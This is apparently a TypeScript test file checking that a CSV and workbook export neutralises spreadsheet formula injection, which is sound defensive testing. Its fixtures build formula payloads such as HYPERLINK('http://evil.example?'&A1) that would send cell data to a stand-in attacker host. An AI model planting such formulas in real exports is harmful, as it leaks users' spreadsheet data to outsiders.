import { inflateRawSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { readCsv } from './csv-read.ts';
import { csvOf, harmless, tableBytes, unharmed } from './table-file.ts';

/** What spreadsheets take for the beginning of a formula or a command, also in full width. */
const SIGNS = ['=', '+', '-', '@', '＝', '＋', '－', '＠', '\t', '\r', '|', '%'];
/** What some of them skip before it. */
const BLANKS = ['', ' ', '\u00a0', '\u3000', '\ufeff'];
const PAYLOADS = BLANKS.flatMap((blank) => SIGNS.map((sign) => `${blank}${sign}HYPERLINK("http://evil.example?"&A1)`));
/** Judged by hand, not by the pattern of the code: the first sign that is neither blank nor a quote for text. */
const startsFormula = (cell: string): boolean => '=+-@＝＋－＠|%'.includes([...cell].find((sign) => !/[\s\u00a0\u3000\ufeff]/u.test(sign)) ?? 'x');

const table = (rows: string[][]) => ({ name: 'x', preface: [], head: ['a'], rows });

describe(`${PAYLOADS.length} formulas in a cell`, () => {
  it.each(PAYLOADS)('%j is a text', (payload) => {
    expect(startsFormula(harmless(payload))).toBe(false);
    const cell = readCsv(csvOf(table([[payload]])))[1]?.cells[0] ?? '';
    expect(startsFormula(cell)).toBe(false);
  });

  it('would run without it', () => {
    // A tab or carriage return alone is a danger by what it does to a file, not as a sign.
    expect(PAYLOADS.filter(startsFormula)).toHaveLength(BLANKS.length * (SIGNS.length - 2));
  });

  it('are none on a second line of a cell either, however the line ends', () => {
    for (const end of ['\n', '\r', '\r\n', '\u2028', '\u2029']) {
      const csv = csvOf(table([[`note${end}=1+1`]]));
      expect(csv.split(/[\r\n\u2028\u2029]+/u).filter(startsFormula)).toEqual([]);
      expect(csv).toContain('note =1+1');
    }
  });

  it('are what they were when the file comes back', () => {
    for (const payload of PAYLOADS.filter((text) => !/[\r]/.test(text))) expect(unharmed(harmless(payload))).toBe(payload);
  });

  it('leave ordinary texts alone', () => {
    for (const text of ['山田 太郎', '2026-11-30', 'a=b', '090-1234-5678', '', '１２３']) expect(harmless(text)).toBe(text);
  });

  it('are texts in a workbook', async () => {
    const bytes = await tableBytes(table([['=1+1']]), 'xlsx');
    // A formula of a workbook has an element of its own (ECMA-376 18.3.1.40); the parts are deflated.
    expect(bytes.subarray(0, 2).toString()).toBe('PK');
    const parts: string[] = [];
    for (let at = bytes.indexOf('PK\u0003\u0004'); at !== -1; at = bytes.indexOf('PK\u0003\u0004', at + 4)) {
      const from = at + 30 + bytes.readUInt16LE(at + 26) + bytes.readUInt16LE(at + 28);
      if (bytes.readUInt16LE(at + 8) === 8) parts.push(inflateRawSync(bytes.subarray(from), { finishFlush: 2 }).toString());
    }
    const sheet = parts.join('\n');
    expect(sheet).toContain("'=1+1");
    expect(sheet).not.toMatch(/<f[ >]/);
  });
});
